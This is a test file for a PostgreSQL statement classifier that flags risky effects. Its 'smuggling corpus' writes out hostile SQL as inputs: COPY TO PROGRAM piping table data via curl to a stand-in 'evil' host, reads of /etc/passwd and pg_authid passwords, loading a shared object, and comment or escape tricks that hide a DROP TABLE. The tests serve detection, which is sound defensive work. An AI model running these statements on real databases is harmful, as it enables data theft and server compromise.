// SQL classifier: a smuggling corpus, each case classified from PostgreSQL's own parse tree.

import { describe, expect, it } from 'vitest';
import { classify, classifyFunctionCall, type ClassifiedStatement } from '../../../enforcers/postgres/sql/index.ts';

const ops = (sql: string) => classify(sql).map((s) => s.operation);
const one = (sql: string): ClassifiedStatement => {
  const all = classify(sql);
  expect(all).toHaveLength(1);
  return all[0]!;
};
const rel = (name: string, access: 'read' | 'write' | 'ddl') => ({ name, access });

describe('classify: statements and splitting', () => {
  it('splits stacked statements and keeps each text', () => {
    const s = classify("select 1; DROP TABLE app.users;\n  delete from t where id = 1 ;;");
    expect(s.map((x) => [x.text, x.operation])).toEqual([
      ['select 1', 'select'],
      ['DROP TABLE app.users', 'drop'],
      ['delete from t where id = 1', 'delete'],
    ]);
    expect(s[1]).toMatchObject({ effects: ['ddl'], relations: [rel('app.users', 'ddl')] });
  });

  it('returns nothing for an empty query, comments only', () => {
    expect(classify('')).toEqual([]);
    expect(classify('  -- nothing\n /* at /* all */ */ ;')).toEqual([]);
  });

  it('treats a text that does not parse as one unknown statement with the parser error', () => {
    const s = one('select 1; DR/**/OP TABLE x');
    expect(s).toMatchObject({ operation: 'unknown', effects: [], relations: [], text: 'select 1; DR/**/OP TABLE x' });
    expect(s.parse_error).toMatch(/syntax error at or near "DR"/);
    expect(one('SELEC 1').parse_error).toMatch(/syntax error/);
  });

  it('keeps statement texts right after multibyte characters (byte offsets)', () => {
    expect(classify("select 'ünï€'; select 2").map((s) => s.text)).toEqual(["select 'ünï€'", 'select 2']);
  });
});

describe('classify: smuggling corpus', () => {
  it('nested block comments and line comments hide nothing and invent nothing', () => {
    expect(ops('/* /* nested */ still comment; drop table x; */ select 1')).toEqual(['select']);
    expect(ops('select 1 -- ; drop table x\n; delete from t where a = 1')).toEqual(['select', 'delete']);
    expect(ops('select 1 /* ; */ ; /**/ DROP/**/TABLE/**/x')).toEqual(['select', 'drop']);
    expect(one('DR/**/OP TABLE x').operation).toBe('unknown');
    expect(one('DROP/**/TABLE x')).toMatchObject({ operation: 'drop', relations: [rel('x', 'ddl')] });
    expect(one('DROP--\nTABLE x').operation).toBe('drop');
  });

  it('dollar quoting with tags keeps its content a string', () => {
    expect(ops('select $a$ ; drop table x; $b$ still $a$')).toEqual(['select']);
    expect(ops('select $$;$$; drop table x')).toEqual(['select', 'drop']);
    expect(ops('select $a$ $$ ; $a$; truncate t')).toEqual(['select', 'truncate']);
    expect(one('select $tag$ x $TAG$ y').operation).toBe('unknown'); // tags are case-sensitive: unterminated
  });

  it("E'' and U&'' strings: escapes cannot close the string early", () => {
    expect(ops("select E'\\'; drop table x; --'")).toEqual(['select']);
    expect(ops("select E'\\x27; drop table x; --'")).toEqual(['select']);
    expect(ops("select U&'\\0027; drop table x; --'")).toEqual(['select']);
    expect(ops("select U&'d\\0061t\\+000061' UESCAPE '\\'")).toEqual(['select']);
    // standard_conforming_strings is on: a backslash in '' is a plain character, so the quote closes the string.
    expect(ops("select 'a\\'; drop table x; --'")).toEqual(['select', 'drop']);
    expect(ops("select U&\"d\\0061ta\" from t")).toEqual(['select']);
    expect(one('select * from U&"\\0074"').relations).toEqual([rel('t', 'read')]);
  });

  it('quoted identifiers cannot pose as schema-qualified names', () => {
    expect(one('select * from "ci.jobs"').relations).toEqual([rel('"ci.jobs"', 'read')]);
    expect(one('select * from ci.jobs').relations).toEqual([rel('ci.jobs', 'read')]);
    expect(one('select * from "Ci"."Jobs"').relations).toEqual([rel('"Ci"."Jobs"', 'read')]);
    expect(one('select * from CI.JOBS').relations).toEqual([rel('ci.jobs', 'read')]);
  });

  it('CTEs that delete or update make the statement a write', () => {
    const s = one('with gone as (delete from app.orders returning *) select count(*) from gone');
    expect(s).toMatchObject({ operation: 'delete', relations: [rel('app.orders', 'write')] });
    expect(s.effects).toEqual(expect.arrayContaining(['write', 'delete_without_where']));
    const u = one('with x as (select id from a), y as (update b set v = 1 where id in (select id from x) returning 1) select * from y');
    expect(u.operation).toBe('update');
    expect(u.relations).toEqual([rel('a', 'read'), rel('b', 'write')]);
    expect(u.effects).not.toContain('update_without_where');
    const nested = one('select * from (with d as (delete from t where a = 1 returning *) select * from d) s');
    expect(nested.operation).toBe('delete');
    // A CTE named like a table hides only unqualified references.
    expect(one('with t as (select 1) select * from t, public.t').relations).toEqual([rel('public.t', 'read')]);
  });

  it('SELECT ... FOR UPDATE / FOR SHARE locks rows: a write lock on the locked relations', () => {
    const s = one('select * from app.a x join app.b y on x.id = y.id for update of y');
    expect(s.operation).toBe('select');
    expect(s.relations).toEqual([rel('app.a', 'read'), rel('app.b', 'write')]);
    expect(s.effects).toEqual(expect.arrayContaining(['row_lock', 'write']));
    expect(one('select * from a, b for share').relations).toEqual([rel('a', 'write'), rel('b', 'write')]);
    expect(one('select * from a').effects).toEqual(['read']);
  });

  it('DO blocks: do_block, with EXECUTE as dynamic_sql, and static SQL inside merged', () => {
    const s = one("DO $body$ BEGIN EXECUTE 'DROP TABLE ' || 'x'; END $body$");
    expect(s.operation).toBe('do');
    expect(s.effects).toEqual(expect.arrayContaining(['do_block', 'dynamic_sql']));
    const st = one('DO $$ DECLARE n int; BEGIN DELETE FROM app.t; n := (select count(*) from app.u); PERFORM pg_read_file(\'/etc/passwd\'); END $$');
    expect(st.effects).toEqual(expect.arrayContaining(['do_block', 'delete_without_where', 'function_call', 'write', 'read']));
    expect(st.effects).not.toContain('dynamic_sql');
    expect(st.relations).toEqual([rel('app.t', 'write'), rel('app.u', 'read')]);
    for (const dyn of [
      "DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'select 1' LOOP END LOOP; END $$",
      "DO LANGUAGE plpgsql $$ BEGIN EXECUTE format('drop table %I', 't'); END $$",
      'DO $$ BEGIN unknown_var := 1; END $$', // the PL/pgSQL compiler refuses it: unreadable, so opaque
      "DO LANGUAGE plpython3u $$ import os; os.system('id') $$",
    ]) {
      expect(one(dyn).effects, dyn).toEqual(expect.arrayContaining(['do_block', 'dynamic_sql']));
    }
    expect(one("DO LANGUAGE plpython3u $$ pass $$").effects).toContain('untrusted_language');
    // A DO whose body holds a DO.
    const inner = one("DO $o$ BEGIN DO $i$ BEGIN EXECUTE 'x'; END $i$; END $o$");
    expect(inner.effects).toEqual(expect.arrayContaining(['do_block', 'dynamic_sql']));
  });

  it('PREPARE/EXECUTE are dynamic_sql; PREPARE shows what it prepares', () => {
    const s = classify('PREPARE p(int) AS DELETE FROM app.t WHERE id = $1; EXECUTE p(1); DEALLOCATE p');
    expect(s.map((x) => x.operation)).toEqual(['prepare', 'execute', 'deallocate']);
    expect(s[0]!.effects).toEqual(expect.arrayContaining(['dynamic_sql', 'write']));
    expect(s[0]!.relations).toEqual([rel('app.t', 'write')]);
    expect(s[1]!.effects).toContain('dynamic_sql');
    expect(one('CREATE TABLE x AS EXECUTE p').effects).toEqual(expect.arrayContaining(['ddl', 'dynamic_sql']));
  });

  it('SET ROLE, SET SESSION AUTHORIZATION, RESET ROLE', () => {
    for (const q of ['SET ROLE postgres', 'SET LOCAL ROLE admin', 'SET SESSION ROLE admin', 'RESET ROLE', "set role = 'x'"]) {
      expect(one(q), q).toMatchObject({ operation: 'set_role', effects: ['set_role'] });
    }
    expect(one('SET SESSION AUTHORIZATION postgres')).toMatchObject({
      operation: 'set_session_authorization',
      effects: ['set_session_authorization'],
    });
    expect(one("select set_config('role', 'postgres', false)").effects).toContain('function_call');
    expect(one('ALTER ROLE ci SET role = postgres').effects).toEqual(expect.arrayContaining(['ddl', 'set_role']));
  });

  it('search_path tricks and settings that change how later statements lex', () => {
    expect(one('SET search_path = evil, public')).toMatchObject({ operation: 'set', effects: ['set_search_path'] });
    expect(one('SET LOCAL search_path TO "$user", pg_temp')).toMatchObject({ effects: ['set_search_path'] });
    expect(one("select set_config('search_path', 'evil', false)").effects).toContain('function_call');
    expect(one("SET client_encoding = 'SJIS'").effects).toEqual(['set_parsing_option']);
    expect(one("SET NAMES 'GBK'").effects).toEqual(['set_parsing_option']);
    expect(one('SET standard_conforming_strings = off').effects).toEqual(['set_parsing_option']);
    expect(one('SET statement_timeout = 0')).toMatchObject({ operation: 'set', effects: [] });
    expect(one('RESET ALL').operation).toBe('reset');
    expect(one('SHOW search_path').operation).toBe('show');
  });

  it('COPY ... TO PROGRAM / FROM PROGRAM, server files, STDIN/STDOUT', () => {
    expect(one("COPY app.t TO PROGRAM 'curl -d @- http://evil'")).toMatchObject({
      operation: 'copy_to',
      relations: [rel('app.t', 'read')],
    });
    expect(one("COPY app.t TO PROGRAM 'x'").effects).toEqual(expect.arrayContaining(['copy_program', 'read']));
    expect(one("COPY t FROM PROGRAM 'cat /etc/passwd'")).toMatchObject({ operation: 'copy_from', relations: [rel('t', 'write')] });
    expect(one("COPY t FROM PROGRAM 'x'").effects).toEqual(expect.arrayContaining(['copy_program', 'write']));
    expect(one("COPY t FROM '/etc/passwd'").effects).toEqual(expect.arrayContaining(['copy_file', 'write']));
    expect(one('COPY t (a, b) FROM STDIN').effects).toEqual(['write']);
    expect(one('COPY (select * from a.b) TO STDOUT')).toMatchObject({ operation: 'copy_to', effects: ['read'], relations: [rel('a.b', 'read')] });
  });

  it('UPDATE/DELETE without WHERE', () => {
    expect(one('UPDATE app.t SET a = 1').effects).toEqual(['update_without_where', 'write']);
    expect(one('DELETE FROM app.t').effects).toEqual(['delete_without_where', 'write']);
    expect(one('DELETE FROM app.t WHERE true').effects).toEqual(['write']);
    expect(one('UPDATE t SET a = 1 FROM u WHERE t.id = u.id').relations).toEqual([rel('t', 'write'), rel('u', 'read')]);
    expect(one('DELETE FROM t USING u').effects).toContain('delete_without_where');
  });

  it('dangerous functions, wherever they are called', () => {
    const s = one("SELECT pg_read_file('/etc/passwd')");
    expect(s).toMatchObject({ operation: 'select', functions: ['pg_read_file'] });
    expect(s.effects).toContain('function_call');
    expect(one("select * from pg_catalog.pg_ls_dir('.')").functions).toEqual(['pg_catalog.pg_ls_dir']);
    expect(one("select * from pg_catalog.pg_ls_dir('.')").effects).toContain('function_call');
    expect(one('select 1 where exists (select pg_terminate_backend(pid) from pg_stat_activity)').effects).toContain('function_call');
    expect(one("select lo_import('/etc/passwd')").effects).toContain('function_call');
    const d = one("select * from dblink('host=x', 'drop table t') as r(a int)");
    expect(d.effects).toEqual(expect.arrayContaining(['function_call', 'dynamic_sql']));
    expect(one("select query_to_xml('delete from t returning 1', true, true, '')").effects).toContain('dynamic_sql');
    expect(one('select lower(name), count(*) from t group by 1').effects).toEqual(['read']);
    expect(one('select lower(name), count(*) from t group by 1').functions).toEqual(['lower', 'count']);
    expect(one('CALL app.do_things(1)')).toMatchObject({ operation: 'call', functions: ['app.do_things'] });
  });

  it('statements that change the server or load code', () => {
    expect(one("ALTER SYSTEM SET archive_command = 'curl evil'")).toMatchObject({ operation: 'alter_system' });
    expect(one("ALTER SYSTEM SET archive_command = 'x'").effects).toEqual(expect.arrayContaining(['alter_system', 'ddl']));
    expect(one("LOAD '/tmp/evil.so'")).toMatchObject({ operation: 'load', effects: ['load'] });
    expect(one('CREATE EXTENSION dblink').effects).toEqual(expect.arrayContaining(['create_extension', 'ddl']));
    const f = one("CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'drop table t'; END $$");
    expect(f.operation).toBe('create');
    expect(f.effects).toEqual(expect.arrayContaining(['ddl', 'dynamic_sql']));
    expect(one("CREATE FUNCTION g() RETURNS int LANGUAGE plpython3u AS $$ return 1 $$").effects).toContain('untrusted_language');
    expect(one('CREATE FUNCTION h() RETURNS int LANGUAGE sql AS $$ select 1 $$').effects).toEqual(['ddl']);
  });

  it('DDL, DCL and other operations', () => {
    expect(one('CREATE TABLE ci.t (id int references app.u(id))')).toMatchObject({ operation: 'create', relations: [rel('ci.t', 'ddl'), rel('app.u', 'ddl')] });
    expect(one('ALTER TABLE app.t ADD COLUMN x int')).toMatchObject({ operation: 'alter', relations: [rel('app.t', 'ddl')] });
    expect(one('DROP TABLE a.b, c CASCADE').relations).toEqual([rel('a.b', 'ddl'), rel('c', 'ddl')]);
    expect(one('DROP SCHEMA app CASCADE').operation).toBe('drop');
    expect(one('TRUNCATE app.t')).toMatchObject({ operation: 'truncate', relations: [rel('app.t', 'write')] });
    expect(one('TRUNCATE app.t').effects).toEqual(['ddl', 'write']);
    expect(one('GRANT SELECT ON app.t TO bob')).toMatchObject({ operation: 'grant', relations: [rel('app.t', 'ddl')] });
    expect(one('REVOKE ALL ON t FROM bob').operation).toBe('revoke');
    expect(one('GRANT pg_read_server_files TO ci').operation).toBe('grant');
    expect(one('CREATE VIEW v AS SELECT * FROM app.secret').relations).toEqual([rel('v', 'ddl'), rel('app.secret', 'read')]);
    expect(one('CREATE TABLE t2 AS SELECT * FROM t1').relations).toEqual([rel('t1', 'read'), rel('t2', 'ddl')]);
    expect(one('SELECT * INTO t2 FROM t1')).toMatchObject({ operation: 'create', relations: [rel('t2', 'ddl'), rel('t1', 'read')] });
    expect(one('CREATE ROLE evil SUPERUSER').operation).toBe('create');
    expect(one('ALTER ROLE ci SUPERUSER').operation).toBe('alter');
    expect(one('VACUUM app.t').operation).toBe('vacuum');
    expect(one('ANALYZE app.t').operation).toBe('analyze');
    expect(one('LOCK TABLE app.t IN ACCESS EXCLUSIVE MODE')).toMatchObject({ operation: 'lock', relations: [rel('app.t', 'write')] });
    expect(ops('BEGIN; START TRANSACTION; SAVEPOINT s; ROLLBACK TO s; RELEASE s; COMMIT; ROLLBACK')).toEqual([
      'begin', 'begin', 'savepoint', 'rollback', 'release', 'commit', 'rollback',
    ]);
    expect(ops('LISTEN c; NOTIFY c; UNLISTEN c; DISCARD ALL; CHECKPOINT')).toEqual(['listen', 'notify', 'unlisten', 'discard', 'checkpoint']);
    expect(ops('DECLARE c CURSOR WITH HOLD FOR SELECT * FROM t; FETCH 10 FROM c; MOVE c; CLOSE c')).toEqual(['declare', 'fetch', 'move', 'close']);
    expect(one('INSERT INTO app.t SELECT * FROM app.u ON CONFLICT DO NOTHING')).toMatchObject({
      operation: 'insert',
      relations: [rel('app.t', 'write'), rel('app.u', 'read')],
      effects: ['read', 'write'],
    });
    expect(one('MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE')).toMatchObject({
      operation: 'merge',
      relations: [rel('t', 'write'), rel('s', 'read')],
    });
    expect(one('VALUES (1), (2)').operation).toBe('select');
    expect(one('TABLE app.t').relations).toEqual([rel('app.t', 'read')]);
    expect(one('select * from a union select * from b').relations).toEqual([rel('a', 'read'), rel('b', 'read')]);
    expect(one("select 1 union all select pg_read_file('x')").effects).toContain('function_call');
    expect(one('with c as (select 1) select * from c union select * from c').relations).toEqual([]);
    expect(one("CREATE FOREIGN TABLE ft (a int) SERVER s").relations).toEqual([rel('ft', 'ddl')]);
  });

  it('EXPLAIN runs its statement only with ANALYZE', () => {
    expect(one('EXPLAIN DELETE FROM t')).toMatchObject({ operation: 'explain', effects: ['read'], relations: [rel('t', 'read')] });
    expect(one('EXPLAIN ANALYZE DELETE FROM t')).toMatchObject({ operation: 'delete', relations: [rel('t', 'write')] });
    expect(one('EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1').operation).toBe('update');
    expect(one('EXPLAIN (ANALYZE false) UPDATE t SET a = 1').operation).toBe('explain');
    expect(one("EXPLAIN SELECT pg_read_file('x')").effects).toContain('function_call');
  });

  it('the pg_authid catalog is reported with the name as written', () => {
    expect(one('select rolpassword from pg_catalog.pg_authid').relations).toEqual([rel('pg_catalog.pg_authid', 'read')]);
    expect(one('select rolpassword from pg_authid').relations).toEqual([rel('pg_authid', 'read')]);
  });
});

describe('classifyFunctionCall', () => {
  it('makes the FunctionCall message a function_call statement', () => {
    expect(classifyFunctionCall(2619)).toEqual({
      text: '<FunctionCall oid 2619>',
      operation: 'function_call',
      effects: ['function_call'],
      relations: [],
      functions: ['oid:2619'],
    });
  });
});

describe('classify: cache', () => {
  it('returns the same frozen result for the same text', () => {
    const a = classify('select * from cache_probe');
    const b = classify('select * from cache_probe');
    expect(b).toBe(a);
    expect(Object.isFrozen(a[0]!.effects)).toBe(true);
    expect(() => (a[0]!.effects as string[]).push('x')).toThrow();
    expect(classify('select * from cache_probe ')).not.toBe(a);
  });
});

describe('classify: size and depth', () => {
  it('classifies a 1 MB statement in bounded time', () => {
    const big = `select '${'x'.repeat(1 << 20)}' from app.t; drop table y`;
    const t0 = performance.now();
    const s = classify(big);
    const ms = performance.now() - t0;
    expect(s.map((x) => x.operation)).toEqual(['select', 'drop']);
    expect(s[0]!.text.length).toBeGreaterThan(1 << 20);
    expect(ms).toBeLessThan(5000);
    const wide = `select ${Array.from({ length: 20000 }, (_, i) => `c${i}`).join(', ')} from t where a in (${Array.from({ length: 20000 }, (_, i) => i).join(',')})`;
    expect(wide.length).toBeGreaterThan(200_000);
    const t1 = performance.now();
    expect(one(wide).relations).toEqual([rel('t', 'read')]);
    expect(performance.now() - t1).toBeLessThan(5000);
  });

  it('refuses pathological nesting as unknown, and keeps working after', () => {
    const deep = `select ${'('.repeat(100_000)}1${')'.repeat(100_000)}`;
    const s = one(deep);
    expect(s.operation).toBe('unknown');
    expect(s.parse_error).toBeTruthy();
    expect(one('select 1').operation).toBe('select');
  });

  it('classifies deep trees PostgreSQL accepts without exhausting the JavaScript stack', () => {
    const chain = one(`select ${'1+'.repeat(5_000)}1 from app.t`);
    expect(chain).toMatchObject({ operation: 'select', relations: [rel('app.t', 'read')] });
    const nested = one(`select ${'coalesce('.repeat(1_000)}pg_read_file('x')${')'.repeat(1_000)} from app.t`);
    expect(nested.effects).toContain('function_call');
    const nots = one(`delete from app.t where ${'not '.repeat(5_000)}true`);
    expect(nots).toMatchObject({ operation: 'delete', effects: ['write'] });
  });
});
